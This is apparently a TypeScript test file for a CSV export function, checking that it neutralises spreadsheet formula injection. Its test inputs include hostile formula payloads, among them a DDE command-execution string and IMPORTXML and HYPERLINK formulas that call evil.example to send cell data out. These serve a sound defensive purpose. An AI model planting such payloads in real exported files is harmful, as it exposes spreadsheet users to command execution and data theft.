import { expect, test } from 'vitest'
import { CSV_OPENING, csvLine, csvLineSplitAt, separatorIn } from './csv.ts'

/** A reader that splits at any separator and line end and knows no quotes, or drops them. */
function piecesOf(line: string): string[] {
  return line.split(/[,;|\t\r\n]/).flatMap((piece) => [piece, piece.replaceAll('"', '')])
}

/** A reader that splits at one separator and honours quotes where a piece begins with one, as Excel does. */
function splitAt(separator: string, line: string): string[] {
  const cells: string[] = []
  let cell = ''
  let isQuoted = false
  let isNew = true
  for (let at = 0; at < line.length; at += 1) {
    const letter = line[at] ?? ''
    if (isQuoted && letter === '"' && line[at + 1] === '"') {
      cell += '"'
      at += 1
    } else if (letter === '"' && (isQuoted || isNew)) isQuoted = !isQuoted
    else if (!isQuoted && (letter === separator || letter === '\n')) {
      cells.push(cell)
      cell = ''
      isNew = true
      continue
    } else cell += letter
    isNew = false
  }
  return [...cells, cell]
}

/** Parses a table by RFC 4180, so that the tests see the same as a spreadsheet. */
function cellsOf(line: string): string[] {
  return [...line.matchAll(/"((?:[^"]|"")*)"(?:,|\r\n$)/g)].map(([, cell = '']) => cell.replaceAll('""', '"'))
}

const nasty = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example";"Click")',
  '=IMPORTXML(CONCAT("https://evil.example/";A1);"//a")',
  '+27 82 555 0101',
  '-2+3+cmd|calc',
  '@import',
  ' =1',
  '  +1',
  '\t=1',
  '\r=1',
  '\n=1',
  '\r\n=1',
  '\t\t-1',
  ' \t@x',
  '\t',
  '\tplain',
  '\rplain',
  '\nplain',
  '\r',
  '\n',
  '=',
  '+',
  '-',
  '@',
  '- a list\n- of things',
  '=1","=2',
  '="=1"',
  '==1',
  '-=1',
  '\u00a0=1',
  '\u2003+1',
  '\ufeff=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '\u3000＝1',
  '|calc',
  ' |calc',
  '\u0000=1',
  '\u200b=1',
  '\u2060+1',
]

test.each(nasty.map((cell) => [JSON.stringify(cell), cell]))(
  'the cell %s is no formula, and keeps its text (SEC-X4)',
  (_, cell) => {
    const [before, written = '', after] = cellsOf(csvLine(['before', cell, 'after']))
    expect([before, after]).toEqual(['before', 'after'])
    expect(written.charAt(0)).toBe("'")
    expect(written.replaceAll("'", '')).toBe(cell.replaceAll("'", ''))
  },
)

const FORMULA = /^[\s\p{Cc}\p{Cf}]*[=+\-@|＝＋－＠]/u

const splitInside = [
  'God bless;@SUM(1+1)*9;',
  'x;=1',
  'x; =1',
  'x;"=1',
  'x;"",""=1',
  'x";"=1',
  'x\t=1',
  'x,=1',
  'x\n=1',
  'x\r\n=1',
  'x|=1',
  'x;\u200b=1',
  'x;\u{e0020}=1',
  'x;\u0000=1',
  'x;＝1',
  'x;\n\t;+1',
  'x;|calc',
  '=1;=2\n=3\t=4',
  ';-)',
  'rain;;=1;',
]

test.each([...splitInside, ...nasty].map((cell) => [JSON.stringify(cell), cell]))(
  'the cell %s is no formula however its line is split, and no letter is lost (SEC-X4)',
  (_, cell) => {
    for (const separator of [',', ';'] as const) {
      const line = csvLineSplitAt(separator, ['before', cell, 'after'])
      const pieces = [...piecesOf(line), ...[',', ';', '\t', '|'].flatMap((one) => splitAt(one, line))]
      expect(pieces.filter((piece) => FORMULA.test(piece))).toEqual([])
    }
    const [, written = ''] = cellsOf(csvLine(['before', cell, 'after']))
    expect(written.replaceAll("'", '')).toBe(cell.replaceAll("'", ''))
  },
)

test('a cell of many separators takes time by its length alone', () => {
  const cell = `${';\n "'.repeat(50_000)}=1`
  expect(csvLine([cell])).toContain(`\n' ""=1`)
})

test('with semicolons only the separator differs', () => {
  expect(csvLineSplitAt(';', ['a;b', 'c,d'])).toBe('"a;b";"c,d"\r\n')
  expect([
    separatorIn({}),
    separatorIn({ separator: 'semicolon' }),
    separatorIn({ separator: ['x'] }),
  ]).toEqual([',', ';', ','])
})

test.each([
  '',
  'rain',
  '1 = 1',
  'a-b',
  "'=1",
  '"=1',
  'Reën, "asseblief"',
  'two\nlines =1',
  'Amen; thank you, all',
  'سلام',
  '祈り',
])('the cell %j stays as it was written', (cell) => {
  expect(cellsOf(csvLine([cell, 'after']))).toEqual([cell, 'after'])
})

test('lines are those of RFC 4180, and the file begins with the byte order mark of UTF-8', () => {
  expect(csvLine(['a', 'b "c"', ''])).toBe('"a","b ""c""",""\r\n')
  expect([...Buffer.from(CSV_OPENING)]).toEqual([0xef, 0xbb, 0xbf])
})
